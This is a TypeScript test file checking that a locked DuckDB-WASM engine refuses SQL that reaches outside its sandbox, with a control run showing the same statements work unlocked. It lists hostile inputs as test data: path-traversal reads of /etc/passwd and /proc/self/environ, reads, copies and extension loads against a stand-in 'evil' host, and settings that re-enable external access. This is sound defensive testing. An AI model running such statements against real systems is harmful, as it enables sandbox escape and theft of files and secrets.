import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DuckDBConnection } from '@duckdb/duckdb-wasm/blocking';
import type { Engine, FailureKind } from '../../../src/engine/contract.ts';
import { nodeHost, queryRows, startNodeEngine, valueOf } from '../node-engine.ts';

/**
 * Statements that read or write outside the tab, or would open the way to it. None runs in a locked engine;
 * the control at the end shows that the same kinds of statement do reach out of an engine without the lock.
 */
const evil = 'http://127.0.0.1:9/x';
const reads = [
  `FROM read_csv('${evil}.csv')`,
  `FROM read_csv_auto('${evil}.csv')`,
  `FROM read_csv(['${evil}.csv', '${evil}.csv'])`,
  `FROM read_text('${evil}.txt')`,
  `FROM read_blob('${evil}.bin')`,
  `FROM read_json('${evil}.json')`,
  `FROM read_json_auto('${evil}.json')`,
  `FROM read_ndjson('${evil}.json')`,
  `FROM read_parquet('${evil}.parquet')`,
  `FROM parquet_scan('${evil}.parquet')`,
  `FROM parquet_metadata('${evil}.parquet')`,
  `FROM '${evil}.csv'`,
  `FROM '${evil}.parquet'`,
  `FROM '${evil}.json'`,
  `SELECT * FROM "${evil}.csv"`,
  `FROM glob('${evil}*')`,
  `FROM sniff_csv('${evil}.csv')`,
  `FROM read_csv('https://127.0.0.1:9/x.csv')`,
  `FROM read_csv('s3://bucket/x.csv')`,
  `FROM read_csv('gcs://bucket/x.csv')`,
  `FROM read_csv('r2://bucket/x.csv')`,
  `FROM read_csv('hf://datasets/x.csv')`,
  `FROM read_csv('opfs://x.csv')`,
  `FROM read_csv('file:///etc/passwd')`,
  `FROM read_csv('/etc/passwd')`,
  `FROM read_text('/etc/passwd')`,
  `FROM read_blob('/proc/self/environ')`,
  `FROM read_csv('etc/passwd')`,
  `FROM read_csv('../../../etc/passwd')`,
  `FROM read_csv('/data/../etc/passwd')`,
  `FROM read_text('/data/../../etc/passwd')`,
  `FROM read_text('\\data\\..\\etc\\passwd')`,
  `FROM read_text('/DATA/x')`,
  `FROM read_text('/data')`,
  `FROM read_text('/database/x')`,
  `FROM read_text('http:/data/x')`,
  `FROM read_text('http://127.0.0.1:9/data/x')`,
  `FROM read_text('file:/data/../etc/passwd')`,
  `FROM glob('/etc/*')`,
  `FROM glob('/data/../etc/*')`,
  `FROM read_csv(getvariable('u'))`,
  `FROM query('FROM read_csv(''${evil}'')')`,
  `FROM query_table(['${evil}.csv'])`,
  `WITH x AS (FROM read_csv('${evil}')) FROM x`,
  `SELECT (SELECT count(*) FROM read_csv('${evil}'))`,
  `SELECT 1 WHERE EXISTS (FROM read_text('${evil}'))`,
  `PIVOT (FROM read_csv('${evil}')) ON a`,
  `SUMMARIZE FROM read_csv('${evil}')`,
  `DESCRIBE FROM read_csv('${evil}')`,
  `EXPLAIN ANALYZE FROM read_csv('${evil}')`,
];
const statements = [
  `COPY (SELECT 1) TO '${evil}.csv'`,
  `COPY (SELECT 1) TO 's3://bucket/x.csv'`,
  `COPY (SELECT 1) TO '/tmp/x.csv'`,
  `COPY (SELECT 1) TO '/data/x.csv'`,
  `COPY kept FROM '${evil}.csv'`,
  `EXPORT DATABASE '${evil}'`,
  `EXPORT DATABASE '/data/x'`,
  `IMPORT DATABASE '${evil}'`,
  `ATTACH '${evil}.db' AS x`,
  `ATTACH '/tmp/x.db' AS x`,
  `ATTACH ':memory:' AS x`,
  `DETACH big`,
  `USE big`,
  `INSTALL httpfs`,
  `INSTALL x FROM '${evil}'`,
  `FORCE INSTALL json`,
  `LOAD json`,
  `LOAD '${evil}/x.duckdb_extension.wasm'`,
  `UPDATE EXTENSIONS`,
  `SET enable_external_access=true`,
  `SET GLOBAL allowed_directories=['/']`,
  `RESET enable_external_access`,
  `RESET lock_configuration`,
  `SET lock_configuration=false`,
  `SET s3_endpoint='127.0.0.1:9'`,
  `SET custom_extension_repository='${evil}'`,
  `SET VARIABLE u = '${evil}'`,
  `PRAGMA enable_external_access=true`,
  `PRAGMA database_list`,
  `PRAGMA enable_logging`,
  `CALL enable_logging()`,
  `CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')`,
  `CREATE VIEW v AS FROM read_csv('${evil}')`,
  `CREATE MACRO m() AS 1`,
  `PREPARE p AS FROM read_csv('${evil}')`,
  `EXECUTE p`,
];

let engine: Engine;
beforeAll(async () => {
  engine = await startNodeEngine();
  valueOf(
    await engine.run({
      run: 'kept',
      relation: { schema: 'main', name: 'kept' },
      sql: 'SELECT 1 AS a',
      as: 'table',
      variables: [],
      firstRows: 1,
    }),
  );
});

async function kindOf(sql: string, as: 'table' | 'view' | 'check' | 'peek'): Promise<FailureKind> {
  const variables = [{ name: 'u', type: 'text', value: evil }] as const;
  const outcome =
    as === 'peek'
      ? await engine.peek({ run: 'e', schema: 'n1', sql, variables, limit: 1 })
      : await engine.run({
          run: 'e',
          relation: { schema: 'n1', name: 'e' },
          sql,
          as,
          variables,
          firstRows: 1,
        });
  if (outcome.ok) throw new Error(`ran as ${as}: ${sql}`);
  return outcome.failure.kind;
}

describe('a locked engine', () => {
  it('is tried with at least sixty statements', () => {
    expect(reads.length + statements.length).toBeGreaterThanOrEqual(60);
  });

  it.each(reads)('does not read: %s', async (sql) => {
    for (const as of ['table', 'view', 'check', 'peek'] as const) {
      // Readers of formats that are not in the package are names that do not exist; some forms of
      // query cannot stand in a view or in brackets.
      expect(['refused', 'name', 'syntax', 'not-a-query']).toContain(await kindOf(sql, as));
    }
  });

  it('refuses most of them for what they reach for, not for how they are written', async () => {
    const kinds = await Promise.all(reads.map((sql) => kindOf(sql, 'table')));
    expect(kinds.filter((kind) => kind === 'refused').length).toBeGreaterThan(35);
  });

  it.each(statements)('does not run: %s', async (sql) => {
    for (const as of ['table', 'view', 'check', 'peek'] as const) {
      expect(await kindOf(sql, as)).toBe('not-a-query');
    }
  });

  it('still answers, and nothing has changed', async () => {
    expect(await queryRows(engine, 'FROM kept')).toEqual([{ a: '1' }]);
    const settings = await queryRows(
      engine,
      `SELECT name, value FROM duckdb_settings() WHERE name IN
       ('enable_external_access', 'lock_configuration', 'allowed_directories',
        'autoload_known_extensions', 'allow_community_extensions') ORDER BY name`,
    );
    expect(settings.map((row) => row['value'])).toEqual([
      'false',
      expect.stringContaining('/data/'),
      'false',
      'false',
      'true',
    ]);
  });
});

describe('the lock by itself, under what checks the text of a cell', () => {
  let connection: DuckDBConnection;
  beforeAll(async () => {
    const { openLocked } = await import('../../../workers/engine/boot.ts');
    const bindings = await nodeHost.instantiate('');
    openLocked(bindings, { wasm: '' });
    connection = bindings.connect();
  });

  // What the lock leaves alone, because it reaches nothing: other memory, plain values, the catalogue.
  const harmless =
    /^(ATTACH ':memory:'|DETACH|USE|SET VARIABLE|PRAGMA database_list|CALL enable|PRAGMA enable_logging|CREATE SECRET|CREATE MACRO|(FORCE )?INSTALL|EXPORT DATABASE '\/data|COPY \(SELECT 1\) TO '\/data)/;
  it.each(statements.filter((sql) => !harmless.test(sql)))('refuses: %s', (sql) => {
    expect(() => connection.query(sql)).toThrow();
  });
});

describe('the control: without the lock', () => {
  const folder = mkdtempSync(join(tmpdir(), 'memberbook-control-'));
  afterAll(() => {
    rmSync(folder, { recursive: true });
  });

  it('the same statements read a file and write one', async () => {
    const bindings = await nodeHost.instantiate('');
    bindings.open({ path: ':memory:' });
    const connection = bindings.connect();
    const secret = join(folder, 'secret.csv');
    writeFileSync(secret, 'phone\n13800000000\n');
    const rows = connection.query(`FROM read_csv('${secret}')`).toArray();
    expect(String(rows[0])).toContain('13800000000');
    const copy = join(folder, 'copy.csv');
    connection.query(`COPY (SELECT 42 AS a) TO '${copy}'`);
    expect(readFileSync(copy, 'utf8')).toContain('42');
    connection.query(`SET s3_endpoint='127.0.0.1:9'`);
  });
});
